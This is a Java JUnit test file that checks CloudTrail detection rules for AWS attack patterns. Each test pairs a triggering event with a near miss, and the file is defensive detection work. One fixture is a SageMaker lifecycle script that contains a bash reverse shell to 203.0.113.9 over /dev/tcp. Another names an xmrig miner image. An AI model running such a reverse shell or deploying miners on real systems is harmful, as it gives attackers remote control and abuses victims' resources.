package io.trailhound.core.rules.elastic;

import static io.trailhound.core.rules.elastic.CloudTrailRecords.ASSUMED_ROLE;
import static io.trailhound.core.rules.elastic.CloudTrailRecords.IAM_USER;
import static io.trailhound.core.rules.elastic.EsqlRuns.AMAZON_IP;
import static io.trailhound.core.rules.elastic.EsqlRuns.EXAMPLE_ORG_IP;
import static io.trailhound.core.rules.elastic.EsqlRuns.PARIS;
import static io.trailhound.core.rules.elastic.EsqlRuns.SYDNEY;
import static io.trailhound.core.rules.elastic.EsqlRuns.event;
import static io.trailhound.core.rules.elastic.EsqlRuns.rule;
import static io.trailhound.core.rules.elastic.EsqlRuns.run;
import static org.assertj.core.api.Assertions.assertThat;

import io.trailhound.core.alert.Alert;
import io.trailhound.core.event.CloudTrailEvent;
import io.trailhound.core.rules.ir.CompiledRule;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Each ES|QL rule of the peer set on CloudTrail events written for it: a hit (a window of events
 * for the aggregating rules) and the nearest miss. Rules whose alert needs data CloudTrail does
 * not carry are run as far as CloudTrail goes, and say so.
 */
class EsqlPeerRulesTest {
    private static final Instant T0 = Instant.parse("2024-05-01T10:00:01Z");
    private static final String IP = EvidenceCase.IP;

    private static Instant at(long seconds) {
        return T0.plusSeconds(seconds);
    }

    // ---- per-event rules

    @Test
    void ecrPolicyGrantingEveryPrincipal() {
        CompiledRule r = rule("AWS ECR Repository or Registry Policy Granted Public Access");
        String open = "{\\\"Version\\\":\\\"2012-10-17\\\",\\\"Statement\\\":[{\\\"Effect\\\": \\\"Allow\\\","
                + "\\\"Principal\\\": \\\"*\\\",\\\"Action\\\":\\\"ecr:*\\\"}]}";
        String scoped = open.replace("\\\"Principal\\\": \\\"*\\\"",
                "\\\"Principal\\\": {\\\"AWS\\\": \\\"arn:aws:iam::111122223333:root\\\"}");
        CloudTrailEvent hit = event(T0, "ecr.amazonaws.com", "SetRepositoryPolicy", IAM_USER, IP,
                "\"requestParameters\":{\"repositoryName\":\"app\",\"policyText\":\"" + open + "\"}");
        CloudTrailEvent miss = event(T0, "ecr.amazonaws.com", "SetRepositoryPolicy", IAM_USER, IP,
                "\"requestParameters\":{\"repositoryName\":\"app\",\"policyText\":\"" + scoped + "\"}");
        assertThat(run(r, hit)).hasSize(1);
        assertThat(run(r, miss)).as("a policy for one account is not public").isEmpty();
    }

    @Test
    void bedrockApiKeyDestructiveAction() {
        CompiledRule r = rule("AWS Bedrock API Key Used for Destructive or Anti-Recovery Action");
        CloudTrailEvent hit = event(T0, "bedrock.amazonaws.com", "DeleteGuardrail", IAM_USER, IP,
                "\"additionalEventData\":{\"callWithBearerToken\":true}");
        CloudTrailEvent miss = event(T0, "bedrock.amazonaws.com", "DeleteGuardrail", IAM_USER, IP, "");
        assertThat(run(r, hit)).hasSize(1);
        assertThat(run(r, miss)).as("signed with SigV4, not a bearer API key").isEmpty();
    }

    @Test
    void accessKeyCreatedForAnotherUser() {
        CompiledRule r = rule("AWS IAM User Created Access Keys For Another User");
        List<Alert> hit = run(r, event(T0, "iam.amazonaws.com", "CreateAccessKey", IAM_USER, IP,
                "\"requestParameters\":{\"userName\":\"bob\"}"));
        assertThat(hit).hasSize(1);
        assertThat(hit.get(0).outputFields()).containsEntry("user.target.name", "bob")
                .containsEntry("user.name", "alice").containsKey("_id");
        assertThat(run(r, event(T0, "iam.amazonaws.com", "CreateAccessKey", IAM_USER, IP,
                "\"requestParameters\":{\"userName\":\"alice\"}"))).as("her own key").isEmpty();
    }

    @Test
    void phantomBedrockUserGetsCredentials() {
        CompiledRule r = rule("AWS IAM Credentials Added to a Bedrock API Key Phantom User");
        assertThat(run(r, event(T0, "iam.amazonaws.com", "CreateLoginProfile", IAM_USER, IP,
                "\"requestParameters\":{\"userName\":\"BedrockAPIKey-x1y2\"}"))).hasSize(1);
        assertThat(run(r, event(T0, "iam.amazonaws.com", "CreateLoginProfile", IAM_USER, IP,
                "\"requestParameters\":{\"userName\":\"bob\"}"))).as("an ordinary user").isEmpty();
    }

    @Test
    void sageMakerLifecycleScriptWithReverseShell() {
        CompiledRule r = rule("AWS SageMaker Notebook Lifecycle Configuration With Suspicious Script Content");
        CloudTrailEvent hit = lifecycle("#!/bin/bash\nBASH -i >& /dev/tcp/203.0.113.9/4444 0>&1\n");
        CloudTrailEvent miss = lifecycle("#!/bin/bash\npip install pandas\n");
        List<Alert> alerts = run(r, hit);
        assertThat(alerts).hasSize(1);
        assertThat(alerts.get(0).outputFields().get("Esql_priv.aws_cloudtrail_lifecycle_script")).contains("/dev/tcp/");
        assertThat(run(r, miss)).as("installing a package").isEmpty();
    }

    private static CloudTrailEvent lifecycle(String script) {
        String b64 = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_8));
        return event(T0, "sagemaker.amazonaws.com", "CreateNotebookInstanceLifecycleConfig", IAM_USER, IP,
                "\"requestParameters\":{\"notebookInstanceLifecycleConfigName\":\"lc\",\"onCreate\":[{\"content\":\""
                        + b64 + "\"}]}");
    }

    @Test
    void s3StaticSiteJavaScriptUpload() {
        CompiledRule r = rule("AWS S3 Static Site JavaScript File Uploaded");
        List<Alert> hit = run(r, put("static/js/main.8f3a.js"));
        assertThat(hit).hasSize(1);
        assertThat(hit.get(0).outputFields())
                .containsEntry("Esql.aws_cloudtrail_request_parameters_object_key", "main.8f3a.js");
        assertThat(run(r, put("static/js/readme.txt"))).as("not a .js file").isEmpty();
    }

    private static CloudTrailEvent put(String key) {
        return event(T0, "s3.amazonaws.com", "PutObject", IAM_USER, IP,
                "\"requestParameters\":{\"bucketName\":\"www-site\",\"Host\":\"www-site.s3.amazonaws.com\",\"key\":\""
                        + key + "\"}");
    }

    @Test
    void s3CopyEncryptedWithAnotherAccountsKey() {
        CompiledRule r = rule("AWS S3 Object Encryption Using External KMS Key");
        assertThat(run(r, copy("999988887777"))).hasSize(1);
        assertThat(run(r, copy("111122223333"))).as("the account's own key").isEmpty();
    }

    private static CloudTrailEvent copy(String keyAccount) {
        return event(T0, "s3.amazonaws.com", "CopyObject", IAM_USER, IP, "\"requestParameters\":{"
                + "\"bucketName\":\"data\",\"x-amz-server-side-encryption-aws-kms-key-id\":\"arn:aws:kms:us-east-1:"
                + keyAccount + ":key/0a1b2c3d\",\"Host\":\"data.s3.amazonaws.com\",\"x-amz-server-side-encryption\":"
                + "\"aws:kms\",\"x-amz-copy-source\":\"data/report.csv\",\"key\":\"report.csv\"}");
    }

    // ---- aggregating rules: windows of events

    @Test
    void s3BucketPostureCallsOnManyBucketsWithinTenSeconds() {
        CompiledRule r = rule("AWS S3 Rapid Bucket Posture API Calls from a Single Principal");
        List<Alert> hit = run(r, buckets(16));
        assertThat(hit).hasSize(1);
        assertThat(hit.get(0).context()).containsEntry("Esql.aws_cloudtrail_resources_arn_count_distinct", "16")
                .containsEntry("events", "16");
        assertThat(hit.get(0).context().get("eventIDs").split(",")).hasSize(16);
        assertThat(run(r, buckets(15))).as("15 buckets is not more than 15").isEmpty();
    }

    private static List<CloudTrailEvent> buckets(int n) {
        List<CloudTrailEvent> out = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            out.add(event(at(i % 8), "s3.amazonaws.com", "GetBucketAcl", IAM_USER, IP,
                    "\"requestParameters\":{\"bucketName\":\"b" + i + "\"},\"resources\":[{\"type\":\"AWS::S3::Bucket\","
                            + "\"ARN\":\"arn:aws:s3:::b" + i + "\"}]"));
        }
        return out;
    }

    @Test
    void serviceQuotaReadInTenRegionsWithinThirtySeconds() {
        CompiledRule r = rule("AWS Service Quotas Multi-Region GetServiceQuota Requests");
        assertThat(run(r, quotas(10))).hasSize(1);
        assertThat(run(r, quotas(9))).as("nine regions").isEmpty();
    }

    private static List<CloudTrailEvent> quotas(int regions) {
        List<CloudTrailEvent> out = new ArrayList<>();
        for (int i = 0; i < regions; i++) {
            out.add(event(at(i), "servicequotas.amazonaws.com", "GetServiceQuota", IAM_USER, IP, EvidenceCase.CLI,
                    REGIONS.get(i), "\"requestParameters\":{\"serviceCode\":\"ec2\",\"quotaCode\":\"L-1216C47A\"}"));
        }
        return out;
    }

    private static final List<String> REGIONS = List.of("us-east-1", "us-east-2", "us-west-1", "us-west-2",
            "eu-west-1", "eu-west-2", "eu-central-1", "ap-south-1", "ap-northeast-1", "sa-east-1", "ca-central-1");

    @Test
    void describeInstancesInTenRegionsWithinThirtySeconds() {
        CompiledRule r = rule("AWS EC2 Multi-Region DescribeInstances API Calls");
        assertThat(run(r, describes(10))).hasSize(1);
        assertThat(run(r, describes(9))).as("nine regions").isEmpty();
    }

    private static List<CloudTrailEvent> describes(int regions) {
        List<CloudTrailEvent> out = new ArrayList<>();
        for (int i = 0; i < regions; i++) {
            out.add(event(at(i), "ec2.amazonaws.com", "DescribeInstances", IAM_USER, IP, EvidenceCase.CLI,
                    REGIONS.get(i), ""));
        }
        return out;
    }

    @Test
    void ec2StoppedUserDataChangedAndStarted() {
        CompiledRule r = rule("AWS EC2 Stop, Start, and User Data Modification Correlation");
        String items = "\"requestParameters\":{\"instancesSet\":{\"items\":[{\"instanceId\":\"i-0abc1234\"}]},"
                + "\"force\":false}";
        CloudTrailEvent stop = event(at(0), "ec2.amazonaws.com", "StopInstances", IAM_USER, IP, items);
        CloudTrailEvent modify = event(at(60), "ec2.amazonaws.com", "ModifyInstanceAttribute", IAM_USER, IP,
                "\"requestParameters\":{\"instanceId\":\"i-0abc1234\",\"userData\":\"<sensitiveDataRemoved>\"}");
        CloudTrailEvent start = event(at(120), "ec2.amazonaws.com", "StartInstances", IAM_USER, IP, items);
        List<Alert> hit = run(r, start, stop, modify);
        assertThat(hit).isNotEmpty().allSatisfy(a -> assertThat(a.context())
                .containsEntry("Esql.instance_id", "i-0abc1234").containsEntry("Esql.event_action_unique_count", "3"));
        assertThat(run(r, stop, start)).as("restarted without a user-data change").isEmpty();
    }

    @Test
    void lambdaInvokedFromAnotherAccount() {
        CompiledRule r = rule("AWS Lambda Function Invoked Cross-Account");
        assertThat(run(r, invoke("444455556666", 0))).hasSize(1);
        assertThat(run(r, invoke("111122223333", 0))).as("a function of the caller's own account").isEmpty();
    }

    private static CloudTrailEvent invoke(String functionAccount, long second) {
        return event(at(second), "lambda.amazonaws.com", "Invoke", IAM_USER, IP,
                "\"requestParameters\":{\"functionName\":\"arn:aws:lambda:us-east-1:" + functionAccount
                        + ":function:report\"},\"resources\":[{\"ARN\":\"arn:aws:lambda:us-east-1:" + functionAccount
                        + ":function:report\"}],\"eventCategory\":\"Data\"");
    }

    @Test
    void lambdaInvokedAThousandTimesWithinTheHour() {
        CompiledRule r = rule("AWS Lambda Function High-Frequency Invocation by a Single Principal");
        List<CloudTrailEvent> many = new ArrayList<>();
        for (int i = 0; i < 1000; i++) {
            many.add(invoke("111122223333", 60 + i));
        }
        List<Alert> hit = run(r, many);
        assertThat(hit).hasSize(1);
        assertThat(hit.get(0).context()).containsEntry("Esql.invocation_count", "1000");
        assertThat(run(r, many.subList(1, 1000))).as("999 calls").isEmpty();
    }

    @Test
    void bedrockModelProbedFiveHundredTimes() {
        CompiledRule r = rule("AWS Bedrock High-Frequency Single-Model Inference API Probing");
        List<CloudTrailEvent> calls = new ArrayList<>();
        for (int i = 0; i < 500; i++) {
            calls.add(event(at(i), "bedrock.amazonaws.com", "InvokeModel", IAM_USER, IP,
                    "\"requestParameters\":{\"modelId\":\"anthropic.claude-3-haiku\"}"));
        }
        assertThat(run(r, calls)).isNotEmpty()
                .allSatisfy(a -> assertThat(a.context()).containsEntry("Esql.model_id", "anthropic.claude-3-haiku"));
        assertThat(run(r, calls.subList(1, 500))).as("499 calls").isEmpty();
    }

    @Test
    void ecsTaskDefinitionWithPublicImageAndBigCpuThenRun() {
        CompiledRule r = rule("AWS Potential Cryptomining via ECS Task Definition Deployment");
        CloudTrailEvent register = event(at(0), "ecs.amazonaws.com", "RegisterTaskDefinition", IAM_USER, IP,
                "\"requestParameters\":{\"family\":\"batch\",\"cpu\":\"8192\",\"containerDefinitions\":[{\"name\":\"w\","
                        + "\"image\":\"docker.io/miner/xmrig:latest\"}]}");
        CloudTrailEvent runTask = event(at(30), "ecs.amazonaws.com", "RunTask", IAM_USER, IP,
                "\"requestParameters\":{\"taskDefinition\":\"batch:1\"}");
        List<Alert> hit = run(r, register, runTask);
        assertThat(hit).isNotEmpty().allSatisfy(a -> assertThat(a.context()).containsEntry("Esql.miner_register_sum", "1")
                .containsEntry("Esql.task_run_sum", "1"));
        assertThat(run(r, runTask)).as("running a task defined long ago").isEmpty();
    }

    @Test
    void consoleLoginsFromTwoCountries() {
        CompiledRule r = rule("AWS IAM User Console Login from Multiple Geolocations");
        CloudTrailEvent paris = login(PARIS, 0);
        CloudTrailEvent sydney = login(SYDNEY, 600);
        List<Alert> hit = run(r, paris, sydney);
        assertThat(hit).isNotEmpty().allSatisfy(a -> assertThat(a.context())
                .containsEntry("Esql.source_geo_country_iso_code_count_distinct", "2"));
        assertThat(run(r, paris, login(PARIS, 600))).as("both from France").isEmpty();
    }

    private static CloudTrailEvent login(String ip, long second) {
        return event(at(second), "signin.amazonaws.com", "ConsoleLogin", IAM_USER, ip, "Mozilla/5.0", "us-east-1",
                "\"responseElements\":{\"ConsoleLogin\":\"Success\"},\"additionalEventData\":{\"MFAUsed\":\"Yes\"}");
    }

    @Test
    void rareNetworkAmongCloudTrafficWithTwoSensitiveActions() {
        CompiledRule r = rule("AWS Rare Source AS Organization Activity");
        List<CloudTrailEvent> events = new ArrayList<>();
        for (int i = 0; i < 200; i++) {
            events.add(event(at(i * 10), "ec2.amazonaws.com", "DescribeInstances", IAM_USER, AMAZON_IP, ""));
        }
        List<CloudTrailEvent> hit = new ArrayList<>(events);
        hit.add(event(at(2100), "sts.amazonaws.com", "GetCallerIdentity", IAM_USER, EXAMPLE_ORG_IP, ""));
        hit.add(event(at(2110), "s3.amazonaws.com", "ListBuckets", IAM_USER, EXAMPLE_ORG_IP, ""));
        List<Alert> alerts = run(r, hit);
        assertThat(alerts).isNotEmpty().allSatisfy(a -> assertThat(a.context())
                .containsEntry("Esql.unique_action_from_untrusted_asn", "2").containsEntry("user.name", "alice"));
        List<CloudTrailEvent> miss = new ArrayList<>(events);
        miss.add(event(at(2100), "sts.amazonaws.com", "GetCallerIdentity", IAM_USER, EXAMPLE_ORG_IP, ""));
        miss.add(event(at(2110), "sts.amazonaws.com", "GetCallerIdentity", IAM_USER, EXAMPLE_ORG_IP, ""));
        assertThat(run(r, miss)).as("one kind of sensitive call only").isEmpty();
    }

    @Test
    void githubActionsKeyUsedFromANonCiNetwork() {
        CompiledRule r = rule("AWS Credentials Used from GitHub Actions and Non-CI/CD Infrastructure");
        String ua = "aws-sdk-nodejs/2.1 linux/v20 configure-aws-credentials-for-github-actions";
        CloudTrailEvent fromCi = event(at(0), "sts.amazonaws.com", "GetCallerIdentity", IAM_USER, AMAZON_IP, ua,
                "us-east-1", "");
        CloudTrailEvent elsewhere = event(at(600), "s3.amazonaws.com", "ListBuckets", IAM_USER, EXAMPLE_ORG_IP, "");
        List<Alert> hit = run(r, fromCi, elsewhere);
        assertThat(hit).isNotEmpty().allSatisfy(a -> assertThat(a.context())
                .containsEntry("aws.cloudtrail.user_identity.access_key_id", "AKIA2EXAMPLEKEY00001"));
        CloudTrailEvent alsoCi = event(at(600), "s3.amazonaws.com", "ListBuckets", IAM_USER, AMAZON_IP, "");
        assertThat(run(r, fromCi, alsoCi)).as("only from CI/CD networks").isEmpty();
    }

    @Test
    void kubernetesServiceAccountRoleUsedForThreePhasesOfCalls() {
        CompiledRule r = rule("AWS Lateral Movement from Kubernetes SA via AssumeRoleWithWebIdentity");
        String pod = """
                {"type":"WebIdentityUser","principalId":"arn:aws:iam::111122223333:oidc-provider/oidc.eks:sub",
                 "userName":"system:serviceaccount:prod:api","identityProvider":"arn:aws:iam::111122223333:oidc-provider/oidc.eks"}""";
        CloudTrailEvent assume = event(at(0), "sts.amazonaws.com", "AssumeRoleWithWebIdentity", pod, IP,
                "\"responseElements\":{\"credentials\":{\"accessKeyId\":\"ASIA2EXAMPLEROLE0001\",\"sessionToken\":\"x\","
                        + "\"expiration\":\"May 1, 2024, 11:00:00 AM\"},\"subjectFromWebIdentityToken\":"
                        + "\"system:serviceaccount:prod:api\"}");
        CloudTrailEvent list = event(at(60), "s3.amazonaws.com", "ListBuckets", ASSUMED_ROLE, IP, "");
        CloudTrailEvent who = event(at(70), "sts.amazonaws.com", "GetCallerIdentity", ASSUMED_ROLE, IP, "");
        CloudTrailEvent secret = event(at(80), "secretsmanager.amazonaws.com", "GetSecretValue", ASSUMED_ROLE, IP,
                "\"requestParameters\":{\"secretId\":\"prod/db\"}");
        List<Alert> hit = run(r, assume, list, who, secret);
        assertThat(hit).isNotEmpty().allSatisfy(a -> assertThat(a.context())
                .containsEntry("aws.cloudtrail.user_identity.access_key_id", "ASIA2EXAMPLEROLE0001")
                .containsEntry("Esql.assume_count", "1"));
        // The rule counts distinct actions including the AssumeRoleWithWebIdentity itself: three in all.
        assertThat(run(r, assume, list, who)).isNotEmpty();
        assertThat(run(r, assume, list, list)).as("one kind of call after the assumption").isEmpty();
    }

    @Test
    void selfCreatedAccessKeyUsedWithinTheHour() {
        CompiledRule r = rule("AWS IAM User Self-Created Access Key Subsequently Used");
        CloudTrailEvent create = event(at(0), "iam.amazonaws.com", "CreateAccessKey", IAM_USER, IP,
                "\"responseElements\":{\"accessKey\":{\"accessKeyId\":\"AKIA2EXAMPLENEWKEY01\",\"status\":\"Active\","
                        + "\"userName\":\"alice\",\"createDate\":\"May 1, 2024, 10:00:01 AM\"}}");
        String newKey = IAM_USER.replace("AKIA2EXAMPLEKEY00001", "AKIA2EXAMPLENEWKEY01");
        CloudTrailEvent use = event(at(300), "s3.amazonaws.com", "ListBuckets", newKey, "203.0.113.99", "");
        List<Alert> hit = run(r, create, use);
        assertThat(hit).isNotEmpty().allSatisfy(a -> assertThat(a.context())
                .containsEntry("Esql_priv.aws_cloudtrail_access_key_id_correlation", "AKIA2EXAMPLENEWKEY01"));
        CloudTrailEvent oldKey = event(at(300), "s3.amazonaws.com", "ListBuckets", IAM_USER, IP, "");
        assertThat(run(r, create, oldKey)).as("the new key was never used").isEmpty();
    }

    @Test
    void sageMakerRolePassedByAPrincipalForTheFirstTimeInSevenDays() {
        CompiledRule r = rule("AWS SageMaker Execution Role Passed by Unusual Principal");
        CloudTrailEvent first = training(0);
        List<Alert> hit = run(r, first);
        assertThat(hit).hasSize(1);
        assertThat(hit.get(0).context()).containsEntry("Esql.aws_cloudtrail_request_parameters_role_arn",
                "arn:aws:iam::111122223333:role/SageMakerExec");
        // A day later the same principal passes the same role again: not new, so only the first alerts.
        List<Alert> again = run(r, first, training(86_400));
        assertThat(again).hasSize(1);
        assertThat(again.get(0).event().eventID()).isEqualTo(first.eventID());
    }

    private static CloudTrailEvent training(long second) {
        return event(at(second), "sagemaker.amazonaws.com", "CreateTrainingJob", IAM_USER, IP,
                "\"requestParameters\":{\"trainingJobName\":\"job\",\"roleArn\":"
                        + "\"arn:aws:iam::111122223333:role/SageMakerExec\"}");
    }
}
